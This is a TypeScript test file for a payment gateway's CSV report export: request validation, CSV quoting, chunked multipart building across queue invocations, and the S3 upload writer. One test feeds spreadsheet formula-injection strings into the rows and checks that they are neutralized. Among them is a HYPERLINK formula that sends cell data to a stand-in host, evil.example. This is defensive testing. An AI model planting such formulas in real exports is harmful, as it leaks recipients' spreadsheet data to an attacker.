/**
 * Reports (docs/merchant-guide.md#reports) over in-memory ports: the request's rules, the CSV as
 * RFC 4180 writes it, and a report's life: recorded pending and queued, built once from the
 * records as they stream, a part at a time, handed from invocation to invocation when it is bigger
 * than one builds (docs/operations.md#reports) without a row lost or written twice, linked for 15
 * minutes when read, failed when it cannot be queued or built; and the S3 writer's multipart
 * upload. The DynamoDB stores, 50,000 rows and the files behind their links are tested in
 * test/integration/reports.test.ts, the whole flow over HTTP in test/e2e/merchant-tools.test.ts.
 */
import { describe, expect, it } from 'vitest';
import { NotFound, Unavailable } from '../../shared/domain/kernel/errors.js';
import type { BalanceEntry } from '../../shared/domain/ledger/balances.js';
import {
  ReportService,
  type BuildAttempt,
  type RecordAfter,
  type ReportLinks,
  type ReportRange,
  type ReportRecords,
  type ReportStore,
  type ReportWriter,
} from '../../shared/domain/ledger/report-service.js';
import { createReportRequestSchema, csvField, entryRow, reportHeader, transactionRow, type Report, type ReportLease, type ReportProgress, type ReportUpload } from '../../shared/domain/ledger/reports.js';
import { S3ReportWriter } from '../../shared/store/s3-report-writer.js';
import type { Transaction } from '../../shared/domain/transactions/transactions.js';
import { refusal } from '../support/memory/gateway.js';

const NOW = new Date('2026-06-01T12:00:00.000Z');
const MERCHANT = 'merchant-1';

const request = (fields: Record<string, unknown> = {}) => createReportRequestSchema.safeParse({ type: 'transactions', createdFrom: '2026-05-01T00:00:00Z', createdTo: '2026-06-01T00:00:00Z', ...fields });

const problemOf = (fields: Record<string, unknown>) => {
  const parsed = request(fields);
  if (parsed.success) throw new Error('the request was accepted');
  return parsed.error.issues.map(({ path, message }) => [path.join('.'), message]);
};

describe('a report request', () => {
  it('takes a range that runs forwards, of at most one year, a type and optionally a currency', () => {
    expect(request().success).toBe(true);
    expect(request({ type: 'balance_entries', currency: 'INR', createdFrom: '2025-06-01T00:00:00Z', createdTo: '2026-06-01T00:00:00Z' }).success).toBe(true);
  });

  it.each([
    ['a range that ends where it starts', { createdTo: '2026-05-01T00:00:00Z' }, 'createdTo', 'createdTo must be after createdFrom'],
    ['a range that runs backwards', { createdFrom: '2026-06-02T00:00:00Z' }, 'createdTo', 'createdTo must be after createdFrom'],
    ['over a year', { createdFrom: '2025-05-31T23:59:59Z' }, 'createdTo', 'A report covers at most one year: createdTo must be at most one year after createdFrom'],
    ['no start', { createdFrom: undefined }, 'createdFrom', undefined],
    ['a start that is no time', { createdFrom: '2026-05-01' }, 'createdFrom', undefined],
    ['another type', { type: 'invoices' }, 'type', undefined],
    ['a currency the books do not hold', { currency: 'EUR' }, 'currency', undefined],
    ['another field', { format: 'xlsx' }, '', undefined],
  ])('refuses %s, naming the field', (_name, fields, field, message) => {
    const problems = problemOf(fields);
    expect(problems.map(([path]) => path)).toContain(field);
    if (message) expect(problems).toContainEqual([field, message]);
  });
});

describe('the file', () => {
  it('quotes a field with a comma, a quote or a line break, doubling quotes, and ends each record with CRLF', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(null)).toBe('');
    expect(entryRow(entry({ availableChange: '-12.50', reason: 'x,y' }))).toMatch(/,-12\.50,.*,"x,y"\r\n$/);
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"'],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', '"\'\rcmd"'],
    ['cust-42', 'cust-42'],
    ['a=b', 'a=b'],
  ])('keeps merchant- and customer-given text %j from being run as a formula: %s', (text, cell) => {
    const row = transactionRow(transaction(1, { customerId: text, orderId: text }));
    // orderId and customerId are the 7th and 8th columns.
    expect(row.startsWith(`00000000-0000-4000-8000-000000000001,2026-05-01T00:01:00.000Z,2026-05-01T00:01:00.000Z,deposit,confirmed,,${cell},${cell},TRY,1.10,`)).toBe(true);
    expect(entryRow(entry({ reason: text })).endsWith(`,${cell}\r\n`)).toBe(true);
  });

  it("leaves the gateway's own decimals numbers, negative ones too, and neutralizes anything else in an amount's column", () => {
    expect(entryRow(entry({ availableChange: '-10.00', availableAfter: '90.00' }))).toBe(
      `00000000-0000-4000-8000-00000000000e,2026-05-01T00:00:00.000Z,00000000-0000-4000-8000-000000000001,payout_reserve,TRY,-10.00,90.00,10.00,\r\n`,
    );
    expect(transactionRow(transaction(1, { amount: '-5', fees: { processing: '=1+1', technical: null } }))).toContain(",TRY,-5,'=1+1,,");
  });

  it('has a header naming the columns of each type', () => {
    expect(reportHeader('transactions')).toBe('id,createdAt,updatedAt,type,status,invoiceId,orderId,customerId,currency,amount,processingFee,technicalFee,network,transactionHash,usd,eur\r\n');
    expect(reportHeader('balance_entries')).toBe('id,createdAt,transactionId,type,currency,amount,availableAfter,reservedAfter,reason\r\n');
  });
});

class MemoryReports implements ReportStore {
  readonly reports = new Map<string, Report>();
  async create(report: Report) {
    this.reports.set(report.id, structuredClone(report));
  }
  async get(id: string) {
    const report = this.reports.get(id);
    return report && structuredClone(report);
  }
  async finish(id: string, outcome: Pick<Report, 'status' | 'rows' | 'fileKey' | 'updatedAt'>) {
    const report = this.reports.get(id);
    if (report?.status !== 'pending') return false;
    Object.assign(report, outcome);
    delete report.progress;
    delete report.building;
    return true;
  }
  async newestOf(merchantId: string, limit: number) {
    return [...this.reports.values()]
      .filter((report) => report.merchantId === merchantId)
      .sort((a, b) => b.createdAt.localeCompare(a.createdAt))
      .slice(0, limit)
      .map((report) => structuredClone(report));
  }
  async claim(id: string, lease: ReportLease, now: Date) {
    const report = this.reports.get(id);
    if (report?.status !== 'pending' || (report.building && report.building.until >= now.toISOString())) return undefined;
    report.building = structuredClone(lease);
    return structuredClone(report);
  }
  async saveProgress(id: string, progress: ReportProgress, lease: ReportLease, release: boolean) {
    const report = this.reports.get(id);
    if (report?.building?.token !== lease.token) return false;
    report.progress = structuredClone(progress);
    if (release) delete report.building;
    return true;
  }
}

/**
 * Files as S3 keeps a multipart upload: each part under its number, a part written again in place
 * of the one before; the file once complete, with the parts it was made of, to see how it was written.
 */
class MemoryFiles implements ReportWriter, ReportLinks {
  readonly uploads = new Map<string, Map<number, string>>();
  readonly files = new Map<string, { text: string; parts: string[] }>();
  readonly aborted: string[] = [];
  failing = false;
  async begin() {
    const id = `upload-${this.uploads.size + 1}`;
    this.uploads.set(id, new Map());
    return { id, parts: [] };
  }
  async part(_key: string, upload: ReportUpload, body: string) {
    if (this.failing) throw new Error('The store is down');
    this.uploads.get(upload.id)!.set(upload.parts.length + 1, body);
    return { ...upload, parts: [...upload.parts, `tag-${upload.parts.length + 1}`] };
  }
  async complete(key: string, upload: ReportUpload) {
    const stored = this.uploads.get(upload.id)!;
    const parts = upload.parts.map((_tag, index) => stored.get(index + 1)!);
    this.files.set(key, { text: parts.join(''), parts });
  }
  async abort(_key: string, upload: ReportUpload) {
    this.aborted.push(upload.id);
  }
  async link(key: string, expiresAt: Date) {
    return `https://files.example/${key}?until=${expiresAt.toISOString()}`;
  }
}

/** What the queue hands the builder: an attempt with time to spare, or one whose budget is spent after `steps` asks. */
const attempt = (fields: { last?: boolean; steps?: number } = {}): BuildAttempt => {
  let asked = 0;
  return { last: fields.last ?? false, budget: { spent: () => fields.steps !== undefined && ++asked > fields.steps }, until: new Date(NOW.getTime() + 300_000) };
};

function entry(fields: Partial<BalanceEntry> = {}): BalanceEntry {
  return {
    id: '00000000-0000-4000-8000-00000000000e',
    merchantId: MERCHANT,
    transactionId: '00000000-0000-4000-8000-000000000001',
    type: 'payout_reserve',
    currency: 'TRY',
    availableChange: '-10.00',
    reservedChange: '10.00',
    availableAfter: '90.00',
    reservedAfter: '10.00',
    sequence: 2,
    createdAt: '2026-05-01T00:00:00.000Z',
    ...fields,
  };
}

function transaction(n: number, fields: Partial<Transaction> = {}): Transaction {
  const at = new Date(Date.parse('2026-05-01T00:00:00Z') + n * 60_000).toISOString();
  return {
    id: `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`,
    merchantId: MERCHANT,
    invoiceId: null,
    type: 'deposit',
    status: 'confirmed',
    amount: `${n}.10`,
    currency: 'TRY',
    network: null,
    transactionHash: null,
    customerId: `customer, "${n}"`,
    orderId: null,
    applicationId: null,
    createdAt: at,
    updatedAt: at,
    fees: { processing: '0.50', technical: null },
    usd: '1.00',
    eur: '0.90',
    ...fields,
  } as Transaction;
}

function setup(records: { transactions?: Transaction[]; entries?: BalanceEntry[] } = {}, options: { readTransactions?: ReportRecords['transactions']; partBytes?: number } = {}) {
  const reports = new MemoryReports();
  const files = new MemoryFiles();
  const queued: string[] = [];
  const queue = {
    down: false,
    async send(id: string) {
      if (queue.down) throw new Error('SQS is down');
      queued.push(id);
    },
  };
  const inRange = <R extends { id: string; merchantId: string; createdAt: string; currency: string }>(all: R[], range: ReportRange, after: RecordAfter) => {
    const matching = all.filter((r) => r.merchantId === range.merchantId && r.createdAt >= range.createdFrom && r.createdAt <= range.createdTo && (!range.currency || r.currency === range.currency));
    return matching.slice(after ? matching.findIndex(({ id }) => id === after.id) + 1 : 0);
  };
  async function* each<R>(items: R[]) {
    yield* items;
  }
  let ids = 0;
  const service = new ReportService({
    reports,
    writer: files,
    links: files,
    records: {
      transactions: options.readTransactions ?? ((range, after) => each(inRange(records.transactions ?? [], range, after))),
      entries: (range, after) => each(inRange(records.entries ?? [], range, after)),
    },
    queue,
    ...(options.partBytes ? { partBytes: options.partBytes } : {}),
    clock: () => NOW,
    newId: () => `10000000-0000-4000-8000-${String(++ids).padStart(12, '0')}`,
  });
  const create = (fields: Record<string, unknown> = {}) => service.create(MERCHANT, request(fields).data!);
  return { reports, files, queued, queue, service, create };
}

/** A row's length: the parts below hold a few rows each. */
const ROW_BYTES = transactionRow(transaction(1)).length;

describe('a report', () => {
  it('is recorded pending and queued; the builder writes a row per record of the range as it reads them, and the link lasts 15 minutes', async () => {
    const inside = [1, 2, 3].map((n) => transaction(n));
    const { files, queued, service, create } = setup({ transactions: [...inside, transaction(4, { merchantId: 'merchant-2' }), transaction(5, { currency: 'INR' })] });
    const { id, status } = await create({ currency: 'TRY' });
    expect(status).toBe('pending');
    expect(queued).toEqual([id]);
    expect(await service.view(MERCHANT, id)).toEqual({ id, type: 'transactions', status: 'pending', rows: null, url: null, expiresAt: null });

    expect(await service.build(id, attempt())).toBe('ready');
    const lines = files.files.get(`${MERCHANT}/${id}.csv`)!.text.split(/(?<=\r\n)/);
    expect(lines).toHaveLength(4);
    expect(lines[0]).toBe(reportHeader('transactions'));
    expect(lines[1]).toBe(`${inside[0]!.id},2026-05-01T00:01:00.000Z,2026-05-01T00:01:00.000Z,deposit,confirmed,,,"customer, ""1""",TRY,1.10,0.50,,,,1.00,0.90\r\n`);
    const expiresAt = new Date(NOW.getTime() + 15 * 60_000).toISOString();
    expect(await service.view(MERCHANT, id)).toEqual({ id, type: 'transactions', status: 'ready', rows: 3, url: `https://files.example/${MERCHANT}/${id}.csv?until=${expiresAt}`, expiresAt });
    expect((await service.view(MERCHANT, id)) as object).not.toHaveProperty('progress');
  });

  it('is written a part at a time as the records are read, never gathered whole', async () => {
    const events: string[] = [];
    const { files, service, create } = setup(
      {},
      {
        // Every row fills a part.
        partBytes: 1,
        readTransactions: async function* () {
          for (const n of [1, 2, 3, 4, 5]) {
            events.push(`read ${n}`);
            yield transaction(n);
          }
        },
      },
    );
    const part = files.part.bind(files);
    files.part = async (key, upload, body) => {
      events.push(`wrote part ${upload.parts.length + 1}`);
      return part(key, upload, body);
    };
    const { id } = await create();
    await service.build(id, attempt());
    expect(events).toEqual(['read 1', 'wrote part 1', 'read 2', 'wrote part 2', 'read 3', 'wrote part 3', 'read 4', 'wrote part 4', 'read 5', 'wrote part 5']);
  });

  it('is built once: a message handled again leaves it as it is', async () => {
    const { files, service, create } = setup({ transactions: [transaction(1)] });
    const { id } = await create();
    await service.build(id, attempt());
    files.files.clear();
    expect(await service.build(id, attempt())).toBe('ready');
    expect(files.files.size).toBe(0);
    expect(await service.build('10000000-0000-4000-8000-999999999999', attempt())).toBe('gone');
  });

  it("is another merchant's to nobody: a 404, as an unknown id", async () => {
    const { service, create } = setup();
    const { id } = await create();
    expect(await refusal(service.view('merchant-2', id))).toEqual(new NotFound('Report'));
    expect(await refusal(service.view(MERCHANT, '10000000-0000-4000-8000-999999999999'))).toEqual(new NotFound('Report'));
  });

  it('refuses a range that ends in the future, naming createdTo, and records nothing', async () => {
    const { reports, queued, create } = setup();
    const error = await refusal(create({ createdTo: '2026-06-01T12:00:01Z' }));
    expect(error).toMatchObject({ problems: [{ field: 'createdTo', message: 'createdTo must not be in the future' }] });
    expect(reports.reports.size).toBe(0);
    expect(queued).toEqual([]);
  });

  it('is failed when it cannot be queued, rather than pending for ever', async () => {
    const { reports, queue, create } = setup();
    queue.down = true;
    expect(await refusal(create())).toBeInstanceOf(Unavailable);
    expect([...reports.reports.values()].map(({ status }) => status)).toEqual(['failed']);
  });

  it('stays pending for the queue to try again when building fails, and is failed at the last attempt, its upload given up', async () => {
    const { files, reports, service, create } = setup({ transactions: [transaction(1)] });
    const { id } = await create();
    files.failing = true;
    await expect(service.build(id, attempt())).rejects.toThrow('The store is down');
    expect((await service.view(MERCHANT, id)).status).toBe('pending');
    // Tried again once the failed invocation's time is over, as SQS delivers it again.
    reports.reports.get(id)!.building!.until = new Date(NOW.getTime() - 1).toISOString();
    await expect(service.build(id, attempt({ last: true }))).rejects.toThrow('The store is down');
    expect(await service.view(MERCHANT, id)).toMatchObject({ status: 'failed', rows: null, url: null });
    expect(files.aborted).toEqual(['upload-1']);
  });
});

describe('a report bigger than one invocation builds', () => {
  const RECORDS = Array.from({ length: 23 }, (_, n) => transaction(n + 1));

  /** Builds the report as the queue hands it on: each invocation's budget spent after one part, until it is no longer continued. */
  async function builtInTurns(built: ReturnType<typeof setup>, id: string): Promise<string[]> {
    const outcomes: string[] = [];
    for (let turn = 0; turn < 100; turn++) {
      const outcome = await built.service.build(id, attempt({ steps: 0 }));
      outcomes.push(outcome);
      if (outcome !== 'continued') break;
      expect(built.queued.at(-1)).toBe(id);
    }
    return outcomes;
  }

  it('is handed from invocation to invocation through the queue, a part each, into the same file as one invocation writes, byte for byte', async () => {
    const whole = setup({ transactions: RECORDS }, { partBytes: 3 * ROW_BYTES });
    const { id: once } = await whole.create();
    expect(await whole.service.build(once, attempt())).toBe('ready');

    const turns = setup({ transactions: RECORDS }, { partBytes: 3 * ROW_BYTES });
    const { id } = await turns.create();
    const outcomes = await builtInTurns(turns, id);
    // 23 rows and the header, three rows a part: 8 parts, the last of them by the invocation that completes the file.
    expect(outcomes).toEqual([...Array(7).fill('continued'), 'ready']);
    expect(turns.queued).toEqual([id, ...Array(7).fill(id)]);
    const file = turns.files.files.get(`${MERCHANT}/${id}.csv`)!;
    expect(file.text).toBe(whole.files.files.get(`${MERCHANT}/${once}.csv`)!.text);
    expect(file.parts.slice(0, -1).every((part) => Buffer.byteLength(part) >= 3 * ROW_BYTES)).toBe(true);
    expect(await turns.service.view(MERCHANT, id)).toMatchObject({ status: 'ready', rows: 23 });
    expect(turns.reports.reports.get(id)).not.toHaveProperty('progress');
  });

  it('is left alone by a second invocation handed the same message while the first builds it', async () => {
    const built = setup({ transactions: RECORDS }, { partBytes: 3 * ROW_BYTES });
    const { id } = await built.create();
    expect(await built.service.build(id, attempt({ steps: 0 }))).toBe('continued');
    let second: string | undefined;
    const part = built.files.part.bind(built.files);
    // While the next invocation writes its part, SQS hands the message to another as well.
    built.files.part = async (key, upload, body) => {
      second ??= await built.service.build(id, attempt());
      return part(key, upload, body);
    };
    expect(await built.service.build(id, attempt())).toBe('ready');
    expect(second).toBe('building');
    const rows = built.files.files.get(`${MERCHANT}/${id}.csv`)!.text.split('\r\n').filter(Boolean);
    expect(rows).toHaveLength(24);
    expect(new Set(rows).size).toBe(24);
  });

  it('writes each row once when an invocation dies after a part it did not record: the message delivered again writes that part again in its place', async () => {
    const whole = setup({ transactions: RECORDS }, { partBytes: 3 * ROW_BYTES });
    const { id: once } = await whole.create();
    await whole.service.build(once, attempt());

    const built = setup({ transactions: RECORDS }, { partBytes: 3 * ROW_BYTES });
    const { id } = await built.create();
    expect(await built.service.build(id, attempt({ steps: 0 }))).toBe('continued');
    const save = built.reports.saveProgress.bind(built.reports);
    built.reports.saveProgress = async () => {
      throw new Error('The invocation timed out');
    };
    await expect(built.service.build(id, attempt())).rejects.toThrow('The invocation timed out');
    built.reports.saveProgress = save;
    // SQS delivers the message again once the dead invocation's time is over.
    expect(await built.service.build(id, attempt())).toBe('building');
    built.reports.reports.get(id)!.building!.until = new Date(NOW.getTime() - 1).toISOString();
    expect(await built.service.build(id, attempt())).toBe('ready');
    expect(built.files.files.get(`${MERCHANT}/${id}.csv`)!.text).toBe(whole.files.files.get(`${MERCHANT}/${once}.csv`)!.text);
    expect(await built.service.view(MERCHANT, id)).toMatchObject({ rows: 23 });
  });

  it('goes on from its progress when a message it handed on is delivered twice, one after the other, and the second finds it built', async () => {
    const built = setup({ transactions: RECORDS }, { partBytes: 12 * ROW_BYTES });
    const { id } = await built.create();
    expect(await built.service.build(id, attempt({ steps: 0 }))).toBe('continued');
    expect(await built.service.build(id, attempt())).toBe('ready');
    expect(await built.service.build(id, attempt())).toBe('ready');
    expect(built.files.files.get(`${MERCHANT}/${id}.csv`)!.text.split('\r\n').filter(Boolean)).toHaveLength(24);
  });
});

describe('report files in S3', () => {
  /** An S3 client that answers each command as S3 would, and keeps them. */
  const s3 = () => {
    const sent: Array<{ name: string; input: Record<string, unknown> }> = [];
    return {
      sent,
      client: {
        send: async (command: { constructor: { name: string }; input: Record<string, unknown> }) => {
          sent.push({ name: command.constructor.name, input: command.input });
          if (command.constructor.name === 'CreateMultipartUploadCommand') return { UploadId: 'upload-1' };
          if (command.constructor.name === 'UploadPartCommand') return { ETag: `"etag-${String(command.input.PartNumber)}"` };
          return {};
        },
      } as unknown as ConstructorParameters<typeof S3ReportWriter>[0],
    };
  };

  it('are one multipart upload that a writer of another invocation goes on with from its parts, completed with every part in order', async () => {
    const { sent, client } = s3();
    const begun = await new S3ReportWriter(client, 'reports').begin('m/r.csv');
    const first = await new S3ReportWriter(client, 'reports').part('m/r.csv', begun, 'a'.repeat(10));
    // The next invocation: a writer of its own, from the upload as the report recorded it.
    const writer = new S3ReportWriter(client, 'reports');
    const last = await writer.part('m/r.csv', structuredClone(first), 'b');
    await writer.complete('m/r.csv', last);
    expect(sent).toEqual([
      { name: 'CreateMultipartUploadCommand', input: { Bucket: 'reports', Key: 'm/r.csv', ContentType: 'text/csv; charset=utf-8' } },
      { name: 'UploadPartCommand', input: { Bucket: 'reports', Key: 'm/r.csv', UploadId: 'upload-1', PartNumber: 1, Body: 'a'.repeat(10) } },
      { name: 'UploadPartCommand', input: { Bucket: 'reports', Key: 'm/r.csv', UploadId: 'upload-1', PartNumber: 2, Body: 'b' } },
      {
        name: 'CompleteMultipartUploadCommand',
        input: {
          Bucket: 'reports',
          Key: 'm/r.csv',
          UploadId: 'upload-1',
          MultipartUpload: {
            Parts: [
              { ETag: '"etag-1"', PartNumber: 1 },
              { ETag: '"etag-2"', PartNumber: 2 },
            ],
          },
        },
      },
    ]);
    await writer.abort('m/r.csv', last);
    expect(sent.at(-1)).toEqual({ name: 'AbortMultipartUploadCommand', input: { Bucket: 'reports', Key: 'm/r.csv', UploadId: 'upload-1' } });
  });
});
